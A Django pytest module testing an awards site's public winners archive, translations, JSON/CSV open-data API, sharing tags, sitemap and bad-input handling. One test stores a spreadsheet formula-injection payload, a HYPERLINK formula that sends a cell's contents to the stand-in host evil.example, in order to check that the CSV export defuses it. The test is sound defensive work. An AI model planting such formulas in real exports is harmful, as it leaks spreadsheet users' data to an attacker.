"""The public site after publication: pages, languages, open data, sharing tags,
query counts, page weight and bad input (publishing itself: test_results_publishing)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.db import connection
from django.test import TestCase
from django.test.utils import CaptureQueriesContext

from accounts.models import Language
from awards import services
from awards.enums import Licence
from awards.models import Entry
from awards.selectors import public, public_cards
from tests.cms.helpers import (
    award_with_prizes,
    losing_entry,
    public_pages,
    staff_user,
)
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

STYLESHEET = Path(__file__).resolve().parents[2] / "static" / "css" / "qalam.css"


def make_module_data(home_page):
    """Award caja-2025 with one winner, its public pages, its results published
    (made once for the module: tests/conftest.py, module_data)."""
    award, category, _round, prizes = award_with_prizes(1, slug="caja-2025")
    public_pages(home_page, award)
    with TestCase.captureOnCommitCallbacks(execute=True):
        services.results_publish(award=award, actor=staff_user())
    return award, category, prizes


def _translate_to_kazakh(entry) -> None:
    services.entry_translation_save(
        entry=entry,
        language=Language.objects.get(code="kk"),
        title="Құпия жеңімпаз",
        summary="Қысқаша.",
        actor=staff_user(),
    )


@pytest.fixture
def published(module_data):
    return module_data


def queries_for(client, url: str) -> int:
    """Queries of an uncached request, after one request warmed per-process caches
    (Wagtail's site root paths, locales)."""
    from cms.cache import purge

    client.get(url)
    purge()
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200, url
    assert response["X-Qalam-Cache"] == "miss"
    return len(captured)


@pytest.mark.parametrize(
    "url", ["/winners/", "/ru/winners/", "/caja-2025/", "/api/winners.json"]
)
def test_query_count_does_not_grow_with_the_number_of_winners(client, published, url):
    _award, category, prizes = published
    round_ = prizes[0].round
    one = queries_for(client, url)
    award_with_prizes(0)  # another award: no effect
    from tests.factories import PrizeFactory

    for number in range(99):
        PrizeFactory(round=round_, entry__category=category, citation=f"C{number}")
    hundred = queries_for(client, url)
    assert one == hundred
    if url.startswith("/api/"):
        assert client.get(url).json()["count"] == 100


def test_archive_lists_filters_and_paginates(client, published):
    award, category, prizes = published
    html = client.get("/winners/").content.decode()
    assert "Secret winner title 0" in html
    assert f'href="/caja-2025/entries/{prizes[0].entry_id}/"' in html
    assert '<label for="f-year">' in html
    assert "1 prize" in html
    assert (
        "Secret winner title 0"
        not in client.get("/winners/?year=2024").content.decode()
    )
    assert (
        "Secret winner title 0"
        in client.get(
            "/winners/?year=2025&category=investigative&country=KG&language=ru&q=secret"
        ).content.decode()
    )


def test_archive_filters_keep_the_choice_in_the_readers_language(client, published):
    html = client.get("/winners/?country=KG&language=ru&year=2025").content.decode()
    assert '<select name="country" id="f-country">' in html
    assert '<option value="KG" selected>Kyrgyzstan</option>' in html
    assert '<option value="ru" selected>Russian</option>' in html
    assert '<option value="2025" selected>2025</option>' in html
    form = html[html.index('<form method="get" class="filters"') :]
    # No category chosen: "All categories" (as Django's Select marks an empty value).
    assert '<option value="" selected>All categories</option>' in form
    assert form[: form.index("</form>")].count(" selected>") == 4
    russian = client.get("/ru/winners/?country=KG").content.decode()
    assert '<option value="KG" selected>Кыргызстан</option>' in russian
    assert "All countries" not in russian


@pytest.mark.parametrize(
    ("query", "status"),
    [
        ("?year=abc", 200),
        ("?year=99999", 200),
        ("?year=1900", 200),
        ("?category=no-such-category", 200),
        ("?country=ZZ", 200),
        ("?language=xx", 200),
        ("?prize=grand", 200),
        ("?award=%00%ff", 200),
        ("?q=%00no-such-words", 200),
        ("?q=" + "x" * 5000, 200),
        ("?page=0", 404),
        ("?page=-1", 404),
        ("?page=abc", 404),
        ("?page=999", 404),
        ("?page=1.5", 404),
    ],
)
def test_unknown_filters_and_pages_are_empty_or_404_never_500(
    client, published, query, status
):
    response = client.get(f"/winners/{query}")
    assert response.status_code == status
    if status == 200:
        assert "No published prizes match these filters." in response.content.decode()
        api = client.get(f"/api/winners.json{query}")
        assert api.status_code == 200
        assert api.json() == {"count": 0, "results": []}


def test_api_row_has_the_documented_schema(client, published):
    award, category, prizes = published
    entry = prizes[0].entry
    Entry.objects.filter(pk=entry.pk).update(licence=Licence.CC_BY_NC_ND)
    data = client.get("/api/winners.json").json()
    assert data["count"] == 1
    assert data["results"] == [
        {
            "award": award.title,
            "year": 2025,
            "category": "Investigative",
            "prize": "winner",
            "title": "Secret winner title 0",
            "authors": [entry.owner.display_name],
            "outlet": "Kloop",
            "country": "KG",
            "language": "ru",
            "url": "https://kloop.kg/story",
            "licence": "cc-by-nc-nd-4.0",
            "licence_url": "https://creativecommons.org/licenses/by-nc-nd/4.0/",
            "citation": "Secret citation 0",
            "published_at": award.results_publication.publish_at.isoformat(),
            "audit_sequence": award.results_publication.audit_sequence,
            "audit_head": award.results_publication.audit_head,
        }
    ]
    rows = list(
        csv.DictReader(io.StringIO(client.get("/api/winners.csv").content.decode()))
    )
    assert rows == [
        {
            **data["results"][0],
            "year": "2025",
            "authors": entry.owner.display_name,
            "audit_sequence": str(award.results_publication.audit_sequence),
        }
    ]


def test_the_csv_never_hands_a_spreadsheet_a_formula(client, published):
    """Entrants write titles and outlets: in the CSV a cell that a spreadsheet would
    evaluate starts with an apostrophe; the JSON keeps the text as written."""
    _award, _category, prizes = published
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    Entry.objects.filter(pk=prizes[0].entry_id).update(title=formula, outlet="@once")
    assert client.get("/api/winners.json").json()["results"][0]["title"] == formula
    (row,) = csv.DictReader(
        io.StringIO(client.get("/api/winners.csv").content.decode())
    )
    assert row["title"] == "'" + formula
    assert row["outlet"] == "'@once"
    assert row["country"] == "KG"


def test_entry_page_in_a_language_without_translation_falls_back_labelled(
    client, published
):
    award, _category, prizes = published
    url = f"/caja-2025/entries/{prizes[0].entry_id}/"
    html = client.get("/uz" + url).content.decode()
    assert '<h1 lang="ru">Secret winner title 0</h1>' in html
    assert 'class="lang-label"' in html


def test_entry_page_shows_the_visitors_translation_when_there_is_one(
    client, published, django_capture_on_commit_callbacks
):
    _award, _category, prizes = published
    entry = prizes[0].entry
    with django_capture_on_commit_callbacks(execute=True):
        _translate_to_kazakh(entry)
    html = client.get(f"/kk/caja-2025/entries/{entry.pk}/").content.decode()
    assert '<h1 lang="kk">Құпия жеңімпаз</h1>' in html
    en = client.get(f"/caja-2025/entries/{entry.pk}/").content.decode()
    assert '<h1 lang="ru">Secret winner title 0</h1>' in en  # original, labelled
    assert 'class="lang-label"' in en


@pytest.mark.parametrize("language", ["en", "ru", "kk", "uz"])
def test_archive_cards_show_what_the_entry_pages_show(
    published, language, django_capture_on_commit_callbacks
):
    """The archive reads plain values, the entry pages model instances: the same
    prize must read the same in both (title in the reader's language, else the
    original; entrant then co-authors by their public names)."""
    from awards.models import EntryCoAuthor
    from tests.factories import PrizeFactory

    award, category, prizes = published
    round_ = prizes[0].round
    translated = PrizeFactory(round=round_, entry__category=category).entry
    with django_capture_on_commit_callbacks(execute=True):
        _translate_to_kazakh(translated)
    for name in ("Zhanna", "", "Aibek"):
        EntryCoAuthor.objects.create(
            entry=translated, user=UserFactory(display_name=name, first_name="F")
        )

    rows = public_cards.published_prize_rows(language=language)
    cards = public_cards.prize_cards(rows, language)
    pages = public.present_all(public.published_prizes(), language)
    assert [
        (
            card.kind,
            card.entry_id,
            card.award_id,
            card.title,
            card.shown_language,
            card.authors,
            card.outlet,
            card.country,
            card.award_title,
            card.category_name,
        )
        for card in cards
    ] == [
        (
            item.prize.kind,
            item.entry.pk,
            item.award.pk,
            item.title,
            item.shown_language,
            item.authors,
            item.entry.outlet,
            str(item.entry.country),
            item.award.title,
            item.entry.category.name,
        )
        for item in pages
    ]
    card = next(card for card in cards if card.entry_id == translated.pk)
    # Ordered by display name; one without falls back to the first name.
    assert card.authors[1:] == ["F", "Aibek", "Zhanna"]
    assert card.title == ("Құпия жеңімпаз" if language == "kk" else translated.title)


def test_head_has_canonical_hreflang_open_graph_and_twitter_tags(client, published):
    _award, _category, prizes = published
    url = f"/ru/caja-2025/entries/{prizes[0].entry_id}/"
    html = client.get(url).content.decode()
    assert f'<link rel="canonical" href="http://localhost{url}">' in html
    hreflangs = re.findall(r'hreflang="([\w-]+)" href="([^"]+)"', html)
    head = dict(hreflangs[:8])
    assert head["en"] == f"http://localhost/caja-2025/entries/{prizes[0].entry_id}/"
    assert head["kk"] == f"http://localhost/kk/caja-2025/entries/{prizes[0].entry_id}/"
    assert head["x-default"] == head["en"]
    assert '<meta property="og:title" content="Secret winner title 0">' in html
    assert '<meta property="og:description" content="Secret citation 0">' in html
    assert '<meta name="twitter:card" content="summary">' in html


def test_sitemap_lists_entry_pages_with_language_alternates(client, published):
    _award, _category, prizes = published
    xml = client.get("/sitemap.xml").content.decode()
    entry = f"http://localhost/caja-2025/entries/{prizes[0].entry_id}/"
    assert f"<loc>{entry}</loc>" in xml
    assert (
        '<xhtml:link rel="alternate" hreflang="ru" '
        f'href="http://localhost/ru/caja-2025/entries/{prizes[0].entry_id}/"/>'
    ) in xml
    assert "<loc>http://localhost/ru/</loc>" in xml


def test_robots_txt_points_to_the_sitemap(client, home_page):
    text = client.get("/robots.txt").content.decode()
    assert "Disallow: /admin/" in text
    assert "Sitemap: http://testserver/sitemap.xml" in text


def test_public_pages_are_light_and_need_no_javascript(client, published):
    _award, _category, prizes = published
    for url in (
        "/",
        "/winners/",
        "/caja-2025/",
        f"/caja-2025/entries/{prizes[0].entry_id}/",
    ):
        response = client.get(url)
        # The page and its stylesheet (the only file it loads before images).
        assert len(response.content) + STYLESHEET.stat().st_size <= 150 * 1024, url
        assert "<script" not in response.content.decode(), url
        assert 'href="/static/css/qalam.css"' in response.content.decode(), url


def test_losing_entry_is_not_in_the_api(client, published):
    _award, category, _prizes = published
    losing_entry(category)
    titles = [row["title"] for row in client.get("/api/winners.json").json()["results"]]
    assert titles == ["Secret winner title 0"]
